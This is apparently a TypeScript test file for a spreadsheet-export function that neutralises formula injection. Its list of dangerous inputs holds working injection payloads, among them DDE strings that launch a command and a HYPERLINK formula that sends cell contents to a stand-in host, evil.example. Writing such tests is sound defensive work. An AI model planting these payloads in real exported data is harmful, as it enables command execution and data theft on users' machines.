import { describe, expect, test } from "bun:test";
import * as fc from "fast-check";
import { escapeFormula } from "../writers/escape-formula.ts";

const DANGEROUS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+1",
  "-2+3+cmd|' /C calc'!D2",
  "-1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "'=1+1",
  "\ttext",
];
const HARMLESS = [
  "",
  "Search for jobs",
  "1+1",
  "a=b",
  "it's",
  "'quoted'",
  "~0219",
  "https://x/?a=-1",
  " text",
  "100 %",
];

/** What docs/exports.md tells people to do to have the text back. */
function unescape(cell: string): string {
  return cell.startsWith("'") && escapeFormula(cell) !== cell ? cell.slice(1) : cell;
}

describe("escapeFormula", () => {
  test.each(DANGEROUS)("%j becomes text", (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  test.each(HARMLESS)("%j stays", (text) => {
    expect(escapeFormula(text)).toBe(text);
  });

  test("any text can be had back, and none of it begins as a formula does", () => {
    const start = fc.array(fc.constantFrom("'", "=", "+", "-", "@", " ", "\t", "\r", "\n", "a"), { maxLength: 4 });
    const text = fc.tuple(start, fc.string({ unit: "binary" })).map(([first, rest]) => first.join("") + rest);
    fc.assert(
      fc.property(text, (original) => {
        const cell = escapeFormula(original);
        expect(unescape(cell)).toBe(original);
        expect(cell.trim()).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});
